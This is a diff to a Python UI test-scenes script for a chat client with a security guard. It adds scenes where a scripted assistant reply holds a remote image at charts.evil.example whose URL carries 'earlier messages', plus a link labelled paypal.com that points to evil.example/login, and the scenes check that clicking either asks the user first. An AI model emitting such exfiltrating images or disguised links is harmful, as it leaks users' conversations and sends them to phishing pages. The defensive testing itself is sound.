@@ -12,6 +12,9 @@ Scenes:
         address: the redaction badge and the guard's note.
     secret: a prompt holding an API key: the held-back panel.
     paste: the same page pasted, as a chip above the input (not sent).
+    image: a reply with a remote image and a misleading link; the image's
+        placeholder is clicked, which asks about its host (C12).
+    link: the same reply; the misleading link is clicked, which asks.
 """
 
 from __future__ import annotations
@@ -21,7 +24,10 @@ import asyncio
 import sys
 from pathlib import Path
 
+from PySide6.QtCore import QTimer, QUrl
+
 from jarvis.guard.inbound import Attachment
+from jarvis.simulator import Fault
 from tests.security import fakes
 from tests.ui.helpers import until
 from ui.app import application
@@ -29,7 +35,15 @@ from ui.controller import ChatController
 from ui.eventloop import QtEventLoop
 from ui.mainwindow import MainWindow
 from ui.promptedit import PASTED_HTML
+from ui.rendering import IMAGE_SCHEME, image_sources
 from ui.session import Session, run
+
+REPLY = (
+    "Here is the chart:\n\n"
+    "![Q3 revenue](https://charts.evil.example/q3.png?d=earlier+messages)\n\n"
+    "Log in at [paypal.com](https://evil.example/login) or read the "
+    "[docs](https://docs.python.org/3/)."
+)
 
 PAGE = (
     "<html><body><h1>Quarterly notes</h1><p>Revenue grew 4% on the quarter.</p>"
@@ -47,12 +61,33 @@ async def _play(window: MainWindow, controller: ChatController, scene: str) -> N
         window.prompt.setPlainText(
             "Summarise this page, then draft a note to "
             "ada.lovelace@analytical-engines.co.uk about it.")
+    elif scene in ("image", "link"):
+        # A directive cannot hold "]", so the reply is queued on the demo
+        # simulator directly (a private handle: screenshots only).
+        simulator = controller._jarvis._demo  # type: ignore[union-attr]
+        simulator.script("anthropic", Fault(text=REPLY))
+        window.prompt.setPlainText("Show me the Q3 chart and where to log in.")
     else:
         window.prompt.setPlainText(
             f"Why does my key {fakes.openai_project_key()} get a 401?")
     if scene != "paste":
         await asyncio.sleep(0.5)
         window.send()
+    if scene in ("image", "link"):
+        await until(lambda: not controller.busy, "the reply", 60)
+        # The dialog runs its own event loop: start it from Qt, not from
+        # inside this coroutine.
+        QTimer.singleShot(300, lambda: _click(window, controller, scene))
+
+
+def _click(window: MainWindow, controller: ChatController, scene: str) -> None:
+    turn = controller.turns()[-1]
+    view = window.chat.widget_for(turn.id).body.views()[-1]
+    if scene == "image":
+        src = next(iter(image_sources(turn.text)))
+        view.anchorClicked.emit(QUrl(f"{IMAGE_SCHEME}:{src}"))
+    else:
+        view.anchorClicked.emit(QUrl("https://evil.example/login"))
 
 
 async def _main(window: MainWindow, controller: ChatController, scene: str,
@@ -68,7 +103,7 @@ async def _main(window: MainWindow, controller: ChatController, scene: str,
 
 def main(argv: list[str]) -> int:
     parser = argparse.ArgumentParser(prog="python -m tests.ui.scenes")
-    parser.add_argument("scene", choices=("guard", "secret", "paste"))
+    parser.add_argument("scene", choices=("guard", "secret", "paste", "image", "link"))
     parser.add_argument("--home", type=Path, required=True)
     args = parser.parse_args(argv)
     app = application()
